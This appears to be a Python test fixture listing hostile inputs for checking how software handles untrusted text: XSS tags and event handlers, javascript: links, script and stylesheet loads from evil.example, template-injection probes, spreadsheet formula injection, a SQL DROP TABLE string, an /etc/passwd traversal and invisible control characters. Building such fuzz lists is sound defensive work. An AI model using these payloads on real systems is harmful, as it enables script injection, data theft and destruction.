"""Texts that somebody hostile could bring into a project: markup, scripts, links, templates, marks that hide or turn text."""

from __future__ import annotations

_RUN = "alert(1)"
_TAGS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script>{_RUN}//",
    f"<<script>{_RUN}//<</script>",
    f"<script src=https://evil.example/{_RUN}.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=https://evil.example/pixel.png onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>",
    f"<a href=javascript:{_RUN}>click</a>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<button formaction=javascript:{_RUN}>go</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<div style=position:fixed;inset:0;background:url(https://evil.example/b)>over all</div>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
]
_ENDS = [
    f"{end}<script>{_RUN}</script>"
    for end in (
        "</textarea>",
        "</title>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "'\">",
        '">',
        "'>",
        "</pre>",
        "</li></ol></form>",
        "</main>",
    )
]
_ATTRIBUTES = [
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"` onload={_RUN} `",
    f'" autofocus onfocus={_RUN} "',
]
_LINKS = [
    f"[click me](javascript:{_RUN})",
    f"[click me](JaVaScRiPt:{_RUN})",
    f"[click me](java\tscript:{_RUN})",
    f"[click me](&#106;avascript:{_RUN})",
    f"[click me](data:text/html,<script>{_RUN}</script>)",
    f"[click me](vbscript:{_RUN})",
    "![picture](https://evil.example/pixel.png)",
    "![picture][ref]\n\n[ref]: https://evil.example/pixel.png",
    f'[title](https://evil.example "x" onclick="{_RUN}")',
    f"<javascript:{_RUN}>",
    f'<https://evil.example/"onclick={_RUN}>',
    "[a](https://evil.example@good.example/)",
]
_TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{%print(7*7)%}",
    "{{config.items()}}",
    "{{''.__class__.__mro__}}",
    "<%=7*7%>",
    "%(name)s %s %d",
    "{0.__class__}",
    "\\u003cscript\\u003e",
]
_MARKS = [
    f"{mark}hidden{mark} text"
    for mark in (
        "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1f", "\x7f", "\x85", "\x9b",
        "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
        "\u2060", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u061c",
    )
]  # fmt: skip
_ENCODED = [
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}",
    f"%3Cscript%3E{_RUN}",
    f"+ADw-script+AD4-{_RUN}",
    f"\uff1cscript\uff1e{_RUN}",
    f"\u2039script\u203a{_RUN}",
]
_SHEETS = ["=cmd|'/c calc'!A0", "+1+cmd", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("https://evil.example")']
_OTHERS = [
    "العربية نص من اليمين",
    "עברית and left again",
    "a" * 3000,
    "wide " * 1200,
    "\n" * 200 + "end of it",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0316\u0319l\u0321g\u0319o",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "'; DROP TABLE response; --",
    "../../../../etc/passwd",
    "null undefined NaN true",
    "__proto__ constructor",
    "1e309",
]

PAYLOADS = [*_TAGS, *_ENDS, *_ATTRIBUTES, *_LINKS, *_TEMPLATES, *_MARKS, *_ENCODED, *_SHEETS, *_OTHERS]
"""Each without a lone surrogate, so that it can be sent as UTF-8."""
